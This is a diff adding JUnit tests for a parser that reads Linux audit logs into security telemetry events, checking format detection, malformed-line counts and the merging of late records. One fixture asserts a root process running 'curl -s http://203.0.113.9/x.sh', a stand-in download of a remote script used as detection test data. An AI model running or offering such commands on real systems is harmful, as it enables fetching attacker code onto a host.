@@ -156,4 +156,34 @@ class CasesTest {
         assertTrue(zoned.warnings().contains("20 events have only a local time without a zone (NXLog's EventTime): read in"
                 + " Europe/Berlin"), zoned.warnings().toString());
     }
+
+    @Test
+    void case10_ausearchOutputAndAPartialFirstLine() {
+        Read ausearch = read(file("10-audit-detection-first-line-only", "ausearch-k-output.txt"), "srv-10");
+        assertEquals(TelemetryFormat.LINUX_AUDIT, ausearch.report().format());
+        assertEquals(17, ausearch.events().size(), ausearch.kinds().toString());
+        assertEquals(5, ausearch.kinds().get("process/start"));
+        assertEquals(2, ausearch.kinds().get("network/connect"));
+        assertEquals(0, ausearch.report().malformed(), "separator lines are skipped, not malformed");
+        assertEquals(List.of("srv-10"), ausearch.report().endpoints());
+
+        Read partial = read(file("10-audit-detection-first-line-only", "audit-partial-first-line.log"), "srv-10");
+        assertEquals(TelemetryFormat.LINUX_AUDIT, partial.report().format());
+        assertEquals(List.of(1L), partial.report().firstMalformedLines());
+        assertEquals(71, partial.report().recordsRead() - 1, "71 records after the partial line");
+    }
+
+    @Test
+    void case11_lateAuditRecordsJoinTheirEvent() {
+        Read r = read(file("11-audit-late-records-replace-event", "audit-aggregated-interleaved.log"), null);
+        Event curl = r.only(e -> "web01".equals(e.get(Field.ENDPOINT)) && "process".equals(e.type()));
+        assertEquals("process/start", curl.type() + "/" + curl.operation());
+        assertEquals("5001", curl.get(Field.PID));
+        assertEquals("1", curl.get(Field.PPID));
+        assertEquals("/usr/bin/curl", curl.get(Field.PROCESS_PATH));
+        assertEquals("curl -s http://203.0.113.9/x.sh", curl.get(Field.COMMAND_LINE));
+        assertEquals("/root", curl.get(Field.CWD));
+        assertEquals("2023-11-14T22:30:00.100Z", Event.formatTime(curl.ts()));
+        assertEquals(r.report().eventsEmitted(), r.report().distinctEvents(), "no event twice");
+    }
 }
